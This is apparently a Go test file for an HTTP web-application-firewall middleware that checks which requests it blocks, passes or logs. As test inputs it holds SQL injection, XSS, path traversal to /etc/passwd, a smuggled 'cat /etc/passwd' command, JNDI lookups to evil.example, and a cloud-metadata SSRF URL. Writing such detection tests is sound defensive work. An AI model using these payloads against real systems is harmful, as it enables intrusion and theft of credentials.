package guardhttp_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"

	"go.uber.org/zap"
	"go.uber.org/zap/zapcore"
	"go.uber.org/zap/zaptest/observer"

	"github.com/fnguard/fnguard/guard"
	"github.com/fnguard/fnguard/middleware/guardhttp"
)

// newGuard builds a guard that ignores the environment and logs to an
// observer.
func newGuard(t testing.TB, opts ...guard.Option) (*guard.Guard, *observer.ObservedLogs) {
	t.Helper()
	core, logs := observer.New(zapcore.DebugLevel)
	opts = append([]guard.Option{guard.WithoutEnv(), guard.WithLogger(zap.New(core)), guard.WithLogRate(-1, 0)}, opts...)
	g, err := guard.New(opts...)
	if err != nil {
		t.Fatalf("guard.New: %v", err)
	}
	return g, logs
}

// recorder is a handler that records what it was given.
type recorder struct {
	calls  atomic.Int32
	body   []byte
	cl     int64
	bodyOK bool
}

func (h *recorder) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h.calls.Add(1)
	b, err := io.ReadAll(r.Body)
	h.body, h.cl, h.bodyOK = b, r.ContentLength, err == nil
	w.Header().Set("Content-Type", "text/plain")
	w.Write([]byte("handled"))
}

type answer struct {
	Message   string `json:"message"`
	RequestID string `json:"requestId"`
}

func decodeAnswer(t *testing.T, w *httptest.ResponseRecorder) answer {
	t.Helper()
	if ct := w.Header().Get("Content-Type"); ct != "application/json" {
		t.Fatalf("Content-Type = %q, want application/json", ct)
	}
	var a answer
	if err := json.Unmarshal(w.Body.Bytes(), &a); err != nil {
		t.Fatalf("answer %q is not JSON: %v", w.Body.String(), err)
	}
	return a
}

func TestHandler(t *testing.T) {
	const limit = 256
	type req struct {
		method, target, body string
		headers              map[string]string
	}
	tests := []struct {
		name       string
		opts       []guard.Option
		req        req
		wantStatus int
		wantMsg    string // "" when the handler answers
		wantRule   string // a finding rule prefix expected in the log, "" for none
	}{
		{"benign GET", nil, req{"GET", "/products?q=blue+shoes&page=2", "", nil}, 200, "", ""},
		{"benign JSON POST", nil, req{"POST", "/orders", `{"name":"O'Brien","note":"select the best one from the list"}`,
			map[string]string{"Content-Type": "application/json"}}, 200, "", ""},
		{"SQLi in query", nil, req{"GET", "/search?q=%27%20OR%201%3D1--", "", nil}, 403, "Forbidden", "sqli"},
		{"SQLi behind a malformed escape", nil, req{"GET", "/search?q=%zz%27%20OR%201%3D1--", "", nil}, 403, "Forbidden", "sqli"},
		{"XSS in JSON body", nil, req{"POST", "/comments", `{"items":[{},{"comment":"<script>alert(1)</script>"}]}`,
			map[string]string{"Content-Type": "application/json"}}, 403, "Forbidden", "xss"},
		{"encoded traversal in path", nil, req{"GET", "/files/..%2f..%2f..%2fetc%2fpasswd", "", nil}, 403, "Forbidden", "path"},
		{"command injection in header", nil, req{"GET", "/", "", map[string]string{"X-Filename": "a.txt; cat /etc/passwd"}}, 403, "Forbidden", "cmdi"},
		{"JNDI in user agent", nil, req{"GET", "/", "", map[string]string{"User-Agent": "${jndi:ldap://evil.example/a}"}}, 403, "Forbidden", "jndi"},
		{"injection in cookie", nil, req{"GET", "/", "", map[string]string{"Cookie": "theme=dark; pref=' OR '1'='1"}}, 403, "Forbidden", "sqli"},
		{"SSRF in form body", nil, req{"POST", "/fetch", "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
			map[string]string{"Content-Type": "application/x-www-form-urlencoded"}}, 403, "Forbidden", "ssrf"},
		{"invalid JSON body", nil, req{"POST", "/orders", `{"a":`, map[string]string{"Content-Type": "application/json"}}, 400, "Bad Request", "validation"},
		{"body at the limit", nil, req{"POST", "/upload", strings.Repeat("a", limit), map[string]string{"Content-Type": "text/plain"}}, 200, "", ""},
		{"body one byte over", nil, req{"POST", "/upload", strings.Repeat("a", limit+1), map[string]string{"Content-Type": "text/plain"}}, 413, "Payload Too Large", "validation.body_too_large"},
		{"method not allowed", []guard.Option{guard.WithAllowMethods("GET")}, req{"DELETE", "/orders/1", "", nil}, 403, "Forbidden", "allowlist.method"},
		{"route not allowed", []guard.Option{guard.WithAllowRoutes("/orders/*")}, req{"GET", "/admin", "", nil}, 403, "Forbidden", "allowlist.route"},
		{"route allowed", []guard.Option{guard.WithAllowRoutes("GET /orders/*")}, req{"GET", "/orders/7", "", nil}, 200, "", ""},
		{"monitor mode runs the handler", []guard.Option{guard.WithMode(guard.Monitor)}, req{"GET", "/search?q=%27%20OR%201%3D1--", "", nil}, 200, "", "sqli"},
		{"monitor mode, oversized body", []guard.Option{guard.WithMode(guard.Monitor)}, req{"POST", "/upload", strings.Repeat("b", 3*limit), nil}, 200, "", "validation.body_too_large"},
		{"category in monitor", []guard.Option{guard.WithCategoryMode(guard.XSS, guard.Monitor)}, req{"GET", "/?c=%3Cscript%3Ealert(1)%3C/script%3E", "", nil}, 200, "", "xss"},
		{"excluded location", []guard.Option{guard.WithExclusion("query.html", guard.XSS)}, req{"GET", "/?html=%3Cscript%3Ealert(1)%3C/script%3E", "", nil}, 200, "", ""},
		{"mode off", []guard.Option{guard.WithMode(guard.Off)}, req{"GET", "/search?q=%27%20OR%201%3D1--", "", nil}, 200, "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			g, logs := newGuard(t, append([]guard.Option{guard.WithMaxBodyBytes(limit)}, tt.opts...)...)
			h := &recorder{}
			var body io.Reader
			if tt.req.body != "" {
				body = strings.NewReader(tt.req.body)
			}
			r := httptest.NewRequest(tt.req.method, tt.req.target, body)
			r.Header.Set("X-Request-Id", "req-"+strconv.Itoa(len(tt.name)))
			// Browser-like defaults: benign requests carry them too.
			r.Header.Set("Accept", "*/*")
			r.Header.Set("Accept-Language", "en-GB,en;q=0.9")
			r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0")
			for k, v := range tt.req.headers {
				r.Header.Set(k, v)
			}
			w := httptest.NewRecorder()
			guardhttp.Handler(g, h).ServeHTTP(w, r)

			if w.Code != tt.wantStatus {
				t.Fatalf("status %d, want %d; body %s; logs %v", w.Code, tt.wantStatus, w.Body.String(), logs.All())
			}
			if tt.wantMsg == "" {
				if h.calls.Load() != 1 || w.Body.String() != "handled" {
					t.Fatalf("handler calls %d, answer %q", h.calls.Load(), w.Body.String())
				}
				if !h.bodyOK || string(h.body) != tt.req.body {
					t.Fatalf("handler read %d bytes, want the %d sent", len(h.body), len(tt.req.body))
				}
			} else {
				if n := h.calls.Load(); n != 0 {
					t.Fatalf("handler called %d times for a %d", n, w.Code)
				}
				a := decodeAnswer(t, w)
				if a.Message != tt.wantMsg || a.RequestID != r.Header.Get("X-Request-Id") {
					t.Fatalf("answer %+v, want message %q and request id %q", a, tt.wantMsg, r.Header.Get("X-Request-Id"))
				}
			}
			if tt.wantRule != "" && !logged(logs, tt.wantRule) {
				t.Fatalf("no finding with rule %q logged; logs: %v", tt.wantRule, logs.All())
			}
			if tt.wantRule == "" && logs.FilterFieldKey("fnguard.rule").Len() > 0 {
				t.Fatalf("unexpected findings: %v", logs.All())
			}
		})
	}
}

// logged reports whether some log line carries a finding whose rule starts
// with prefix.
func logged(logs *observer.ObservedLogs, prefix string) bool {
	for _, e := range logs.All() {
		m := e.ContextMap()
		if r, ok := m["fnguard.rule"].(string); ok && strings.HasPrefix(r, prefix) {
			return true
		}
		if fs, ok := m["fnguard.findings"]; ok {
			b, _ := json.Marshal(fs)
			if strings.Contains(string(b), `"`+prefix) {
				return true
			}
		}
	}
	return false
}

// TestBodyRestored checks that the handler reads exactly the bytes sent, for
// every kind of body.
func TestBodyRestored(t *testing.T) {
	g, _ := newGuard(t)
	binary := make([]byte, 3000)
	for i := range binary {
		binary[i] = byte(i*7 + i>>3)
	}
	tests := []struct {
		name    string
		ct      string
		body    []byte
		chunked bool
	}{
		{"json", "application/json", []byte(`{"a":[1,2,{"b":"c"}],"d":"é ü"}`), false},
		{"json chunked", "application/json", []byte(`{"big":"` + strings.Repeat("xyz", 2000) + `"}`), true},
		{"binary", "application/octet-stream", binary, false},
		{"binary chunked", "image/png", binary, true},
		{"form", "application/x-www-form-urlencoded", []byte("a=1&b=hello+world"), false},
		{"text", "text/plain; charset=utf-8", []byte("line one\nline two\n"), true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []byte
			var cl int64
			h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				got, _ = io.ReadAll(r.Body)
				cl = r.ContentLength
				if err := r.Body.Close(); err != nil {
					t.Errorf("Close: %v", err)
				}
			})
			var body io.Reader = bytes.NewReader(tt.body)
			if tt.chunked {
				body = io.MultiReader(body) // hides the length: httptest sets ContentLength -1
			}
			r := httptest.NewRequest("POST", "/x", body)
			r.Header.Set("Content-Type", tt.ct)
			w := httptest.NewRecorder()
			guardhttp.Handler(g, h).ServeHTTP(w, r)
			if w.Code != 200 {
				t.Fatalf("status %d: %s", w.Code, w.Body.String())
			}
			if !bytes.Equal(got, tt.body) {
				t.Fatalf("handler read %d bytes, differing from the %d sent", len(got), len(tt.body))
			}
			if cl != int64(len(tt.body)) {
				t.Fatalf("ContentLength = %d, want %d", cl, len(tt.body))
			}
		})
	}
}

// countingBody records how much was read from it.
type countingBody struct {
	r    io.Reader
	read int
}

func (c *countingBody) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.read += n
	return n, err
}

func (c *countingBody) Close() error { return nil }

func TestOversizedBodyNotRead(t *testing.T) {
	g, _ := newGuard(t, guard.WithMaxBodyBytes(1000))
	t.Run("declared length over the limit", func(t *testing.T) {
		cb := &countingBody{r: strings.NewReader(strings.Repeat("a", 5000))}
		r := httptest.NewRequest("POST", "/", nil)
		r.Body, r.ContentLength = cb, 5000
		w := httptest.NewRecorder()
		guardhttp.Handler(g, &recorder{}).ServeHTTP(w, r)
		if w.Code != 413 || cb.read != 0 {
			t.Fatalf("status %d after reading %d bytes; want 413 without reading", w.Code, cb.read)
		}
	})
	t.Run("chunked body stops one byte past the limit", func(t *testing.T) {
		cb := &countingBody{r: strings.NewReader(strings.Repeat("a", 1<<20))}
		r := httptest.NewRequest("POST", "/", nil)
		r.Body, r.ContentLength = cb, -1
		w := httptest.NewRecorder()
		guardhttp.Handler(g, &recorder{}).ServeHTTP(w, r)
		if w.Code != 413 || cb.read > 2048 {
			t.Fatalf("status %d after reading %d bytes; want 413 after about 1001", w.Code, cb.read)
		}
	})
	t.Run("outer MaxBytesReader", func(t *testing.T) {
		r := httptest.NewRequest("POST", "/", strings.NewReader(strings.Repeat("a", 900)))
		rw := httptest.NewRecorder()
		r.Body = http.MaxBytesReader(rw, r.Body, 100)
		r.ContentLength = -1
		guardhttp.Handler(g, &recorder{}).ServeHTTP(rw, r)
		if rw.Code != 413 {
			t.Fatalf("status %d, want 413", rw.Code)
		}
	})
}

func TestClientIPPolicy(t *testing.T) {
	deny := guard.WithDenySourceCIDRs(netip.MustParsePrefix("203.0.113.0/24"))
	tests := []struct {
		name   string
		opts   []guard.Option
		remote string
		xff    string
		want   int
	}{
		{"remote addr denied", nil, "203.0.113.5:4000", "", 403},
		{"remote addr allowed", nil, "198.51.100.5:4000", "", 200},
		{"xff ignored without a trusted header", nil, "198.51.100.5:4000", "203.0.113.5", 200},
		{"trusted header, one hop: last entry denied", []guard.Option{guard.WithTrustedProxyHeader("X-Forwarded-For")}, "10.0.0.1:1", "198.51.100.1, 203.0.113.5", 403},
		{"trusted header, one hop: spoofed left entry ignored", []guard.Option{guard.WithTrustedProxyHeader("x-forwarded-for")}, "10.0.0.1:1", "203.0.113.5, 198.51.100.1", 200},
		{"trusted header, two hops", []guard.Option{guard.WithTrustedProxyHeader("X-Forwarded-For"), guard.WithTrustedHops(2)}, "10.0.0.1:1", "203.0.113.5, 198.51.100.1", 403},
		{"allowlist with unknown client", []guard.Option{guard.WithTrustedProxyHeader("X-Forwarded-For"),
			guard.WithAllowSourceCIDRs(netip.MustParsePrefix("198.51.100.0/24"))}, "198.51.100.9:1", "garbage", 403},
		{"allowlist with allowed client", []guard.Option{guard.WithTrustedProxyHeader("X-Forwarded-For"),
			guard.WithAllowSourceCIDRs(netip.MustParsePrefix("198.51.100.0/24"))}, "10.0.0.1:1", "198.51.100.9", 200},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			g, _ := newGuard(t, append([]guard.Option{deny}, tt.opts...)...)
			r := httptest.NewRequest("GET", "/", nil)
			r.RemoteAddr = tt.remote
			if tt.xff != "" {
				r.Header.Set("X-Forwarded-For", tt.xff)
			}
			w := httptest.NewRecorder()
			guardhttp.Handler(g, &recorder{}).ServeHTTP(w, r)
			if w.Code != tt.want {
				t.Fatalf("status %d, want %d", w.Code, tt.want)
			}
		})
	}
}

func TestNilGuard(t *testing.T) {
	h := &recorder{}
	srv := guardhttp.Middleware(nil)(h)
	for _, target := range []string{"/", "/search?q=hello"} {
		w := httptest.NewRecorder()
		r := httptest.NewRequest("GET", target, nil)
		r.Header.Set("X-Request-Id", "abc")
		srv.ServeHTTP(w, r)
		if w.Code != 503 {
			t.Fatalf("%s: status %d, want 503", target, w.Code)
		}
		if a := decodeAnswer(t, w); a.Message != "Service Unavailable" || a.RequestID != "abc" {
			t.Fatalf("answer %+v", a)
		}
	}
	if h.calls.Load() != 0 {
		t.Fatal("the handler ran without a guard")
	}
}

func TestNilHandler(t *testing.T) {
	g, logs := newGuard(t)
	srv := guardhttp.Handler(g, nil)
	if logs.FilterMessageSnippet("misconfigured").Len() != 1 {
		t.Fatalf("nil handler not reported: %v", logs.All())
	}
	w := httptest.NewRecorder()
	srv.ServeHTTP(w, httptest.NewRequest("GET", "/", nil))
	if w.Code != 500 {
		t.Fatalf("status %d, want 500", w.Code)
	}
}

// panicBody panics when read: the middleware's own reading code must turn
// that into the fail mode's answer.
type panicBody struct{}

func (panicBody) Read([]byte) (int, error) { panic("reader exploded") }
func (panicBody) Close() error             { return nil }

func TestPanicInMiddleware(t *testing.T) {
	tests := []struct {
		name       string
		fail       guard.FailMode
		wantStatus int
		wantCalls  int32
	}{
		{"fail closed", guard.FailClosed, 503, 0},
		{"fail open", guard.FailOpen, 200, 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			g, logs := newGuard(t, guard.WithFailMode(tt.fail))
			var calls atomic.Int32
			h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { calls.Add(1) })
			r := httptest.NewRequest("POST", "/", nil)
			r.Body, r.ContentLength = panicBody{}, 10
			w := httptest.NewRecorder()
			guardhttp.Handler(g, h).ServeHTTP(w, r)
			if w.Code != tt.wantStatus || calls.Load() != tt.wantCalls {
				t.Fatalf("status %d, handler calls %d; want %d, %d", w.Code, calls.Load(), tt.wantStatus, tt.wantCalls)
			}
			if logs.Len() == 0 {
				t.Fatal("the failure was not logged")
			}
		})
	}
}

func TestHandlerPanicPropagates(t *testing.T) {
	g, _ := newGuard(t)
	h := http.HandlerFunc(func(http.ResponseWriter, *http.Request) { panic("handler bug") })
	defer func() {
		if recover() == nil {
			t.Fatal("the handler's panic was swallowed")
		}
	}()
	guardhttp.Handler(g, h).ServeHTTP(httptest.NewRecorder(), httptest.NewRequest("GET", "/", nil))
}

const leakedKey = "AKIAIOSFODNN7EXAMPLE"

func TestResponseScan(t *testing.T) {
	tests := []struct {
		name       string
		opts       []guard.Option
		write      func(w http.ResponseWriter)
		wantStatus int
		check      func(t *testing.T, w *httptest.ResponseRecorder)
	}{
		{"clean response passes unchanged", []guard.Option{guard.WithResponseScan(guard.ResponseScanBlock)},
			func(w http.ResponseWriter) {
				w.Header().Set("X-Custom", "1")
				w.Header().Set("Content-Type", "application/json")
				w.WriteHeader(201)
				w.Write([]byte(`{"id":`))
				w.Write([]byte(`42}`))
			}, 201,
			func(t *testing.T, w *httptest.ResponseRecorder) {
				if w.Body.String() != `{"id":42}` || w.Header().Get("X-Custom") != "1" {
					t.Fatalf("body %q headers %v", w.Body.String(), w.Header())
				}
			}},
		{"leak blocked", []guard.Option{guard.WithResponseScan(guard.ResponseScanBlock)},
			func(w http.ResponseWriter) {
				w.Header().Set("X-Custom", "1")
				w.Write([]byte(`{"aws_access_key_id":"` + leakedKey + `"}`))
			}, 500,
			func(t *testing.T, w *httptest.ResponseRecorder) {
				if strings.Contains(w.Body.String(), leakedKey) || w.Header().Get("X-Custom") != "" {
					t.Fatalf("leaking response sent: %q %v", w.Body.String(), w.Header())
				}
				if a := decodeAnswer(t, w); a.Message != "Internal Server Error" {
					t.Fatalf("answer %+v", a)
				}
			}},
		{"leak scrubbed", []guard.Option{guard.WithResponseScan(guard.ResponseScanScrub)},
			func(w http.ResponseWriter) {
				w.Header().Set("Content-Length", "999")
				w.Write([]byte(`key=` + leakedKey))
			}, 200,
			func(t *testing.T, w *httptest.ResponseRecorder) {
				if strings.Contains(w.Body.String(), leakedKey) || !strings.Contains(w.Body.String(), "REDACTED") {
					t.Fatalf("body %q", w.Body.String())
				}
				if w.Header().Get("Content-Length") != strconv.Itoa(w.Body.Len()) {
					t.Fatalf("Content-Length %q for %d bytes", w.Header().Get("Content-Length"), w.Body.Len())
				}
			}},
		{"too large, fail closed", []guard.Option{guard.WithResponseScan(guard.ResponseScanBlock), guard.WithMaxBodyBytes(100)},
			func(w http.ResponseWriter) {
				w.Write(bytes.Repeat([]byte("a"), 60))
				if _, err := w.Write(bytes.Repeat([]byte("b"), 60)); !errors.Is(err, guardhttp.ErrResponseTooLarge) {
					panic("Write did not report ErrResponseTooLarge")
				}
			}, 503, nil},
		{"too large, fail open streams", []guard.Option{guard.WithResponseScan(guard.ResponseScanBlock), guard.WithMaxBodyBytes(100), guard.WithFailMode(guard.FailOpen)},
			func(w http.ResponseWriter) {
				w.WriteHeader(202)
				w.Write(bytes.Repeat([]byte("a"), 60))
				w.Write(bytes.Repeat([]byte("b"), 60))
				w.(http.Flusher).Flush()
			}, 202,
			func(t *testing.T, w *httptest.ResponseRecorder) {
				if w.Body.String() != strings.Repeat("a", 60)+strings.Repeat("b", 60) {
					t.Fatalf("body %q", w.Body.String())
				}
			}},
		{"no scanning: writer untouched", nil, // needs (*guard.Guard).ResponseScanMode
			func(w http.ResponseWriter) {
				if _, ok := w.(*httptest.ResponseRecorder); !ok {
					panic("the response writer was wrapped although scanning is off")
				}
				w.Write([]byte(leakedKey))
			}, 200, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			g, _ := newGuard(t, tt.opts...)
			if _, ok := any(g).(interface{ ResponseScanMode() guard.ResponseScan }); !ok && tt.opts == nil {
				t.Skip("guard.Guard has no ResponseScanMode method yet: responses are always buffered")
			}
			h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { tt.write(w) })
			w := httptest.NewRecorder()
			guardhttp.Handler(g, h).ServeHTTP(w, httptest.NewRequest("GET", "/", nil))
			if w.Code != tt.wantStatus {
				t.Fatalf("status %d, want %d; body %q", w.Code, tt.wantStatus, w.Body.String())
			}
			if tt.check != nil {
				tt.check(t, w)
			}
		})
	}
}

// TestHostInspected: net/http accepts ' ( ) ; = in a Host, and the engine
// used to skip it; a well-formed host (the server's own name) still passes.
func TestHostInspected(t *testing.T) {
	g, err := guard.New(guard.WithoutEnv())
	if err != nil {
		t.Fatal(err)
	}
	h := guardhttp.Handler(g, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(204) }))
	for host, want := range map[string]int{
		"127.0.0.1:8080":                    204,
		"shop.example.com":                  204,
		"[::1]:8443":                        204,
		"shop.example.com';DROP TABLE x;--": 403,
		"a(b)=${jndi:ldap://evil.example}":  403,
	} {
		r := httptest.NewRequest("GET", "/", nil)
		r.Host = host
		w := httptest.NewRecorder()
		h.ServeHTTP(w, r)
		if w.Code != want {
			t.Errorf("Host %q: status %d, want %d", host, w.Code, want)
		}
	}
}

// TestRouteBypassDecoded: with POST /orders/{id} allowed, paths that a
// router decodes into another route are refused through net/http.
func TestRouteBypassDecoded(t *testing.T) {
	g, err := guard.New(guard.WithoutEnv(), guard.WithAllowRoutes("POST /orders/{id}"))
	if err != nil {
		t.Fatal(err)
	}
	h := guardhttp.Handler(g, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(204) }))
	for path, want := range map[string]int{
		"/orders/42":          204,
		"/orders/42/":         204, // the trailing slash is dropped, as API Gateway does
		"/orders/1%2fdelete":  403,
		"/orders/..%2fadmin":  403,
		"/orders/":            403,
		"/orders//42":         204,
		"/orders/7/../../adm": 403,
	} {
		r := httptest.NewRequest("POST", path, strings.NewReader(`{}`))
		r.Header.Set("Content-Type", "application/json")
		w := httptest.NewRecorder()
		h.ServeHTTP(w, r)
		if w.Code != want {
			t.Errorf("POST %s: status %d, want %d", path, w.Code, want)
		}
	}
}
